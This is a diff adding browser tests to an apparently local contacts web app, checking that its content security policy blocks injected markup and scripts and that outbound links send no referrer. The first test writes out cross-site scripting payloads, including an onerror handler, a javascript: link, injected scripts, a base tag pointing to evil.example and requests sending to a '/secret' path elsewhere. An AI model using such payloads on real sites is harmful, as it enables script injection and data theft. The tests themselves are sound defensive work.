@@ -329,6 +329,59 @@ def test_a_page_elsewhere_reads_and_changes_nothing(
     assert served.contact("lee-wong") == before
 
 
+def test_code_in_a_page_would_reach_nobody(
+    served: Served, context: BrowserContext, elsewhere: tuple[str, Path]
+) -> None:
+    """Were markup ever let through, the policy runs no code of it and sends nothing away."""
+    page = come_in(context, served)
+    address, folder = elsewhere
+    (folder / "evil.js").write_text("document.title = 'evil'")
+    page.wait_for_load_state("networkidle")
+    asked: list[str] = []
+    page.on("requestfinished", lambda request: asked.append(request.url))
+    evil = (
+        f"<img src=x onerror=\"document.title = 'evil'\"><img src={address}/secret>"
+        f"<iframe src={address}></iframe><form id=f action={address}/secret><input name=q></form>"
+        "<a id=a href=\"javascript:document.title = 'evil'\">x</a><base href=//evil.example>"
+    )
+    page.evaluate("(evil) => document.body.insertAdjacentHTML('beforeend', evil)", evil)
+    page.evaluate(
+        """(address) => {
+            for (const text of [null, "document.title = 'evil'"]) {
+                const script = document.createElement("script");
+                if (text) script.textContent = text; else script.src = address + "/evil.js";
+                document.body.append(script);
+            }
+            document.getElementById("a").click();
+            return fetch(address + "/secret").catch(() => null);
+        }""",
+        address,
+    )
+    page.wait_for_timeout(500)
+    assert page.title() == "Today"
+    assert page.evaluate("document.baseURI").startswith(served.address)
+    page.evaluate("document.getElementById('f').submit()")
+    page.wait_for_timeout(500)
+    assert not [url for url in asked if url.startswith(address)]
+
+
+def test_no_site_hears_from_where_one_came(
+    served: Served, context: BrowserContext, elsewhere: tuple[str, Path]
+) -> None:
+    """A link out of a page, as to a call, carries no address of ours."""
+    page = come_in(context, served)
+    address, folder = elsewhere
+    (folder / "call.html").write_text("call")
+    page.goto(f"{served.address}/people/lee-wong")
+    page.evaluate(
+        "(url) => { const a = document.createElement('a'); a.href = url; document.body.append(a);"
+        " a.click() }",
+        f"{address}/call.html",
+    )
+    page.wait_for_url(f"{address}/call.html")
+    assert page.evaluate("document.referrer") == ""
+
+
 def test_a_name_that_points_here_is_not_ours(served: Served, context: BrowserContext) -> None:
     """DNS rebinding in the browser itself: the page answers 421 and nothing else."""
     come_in(context, served)
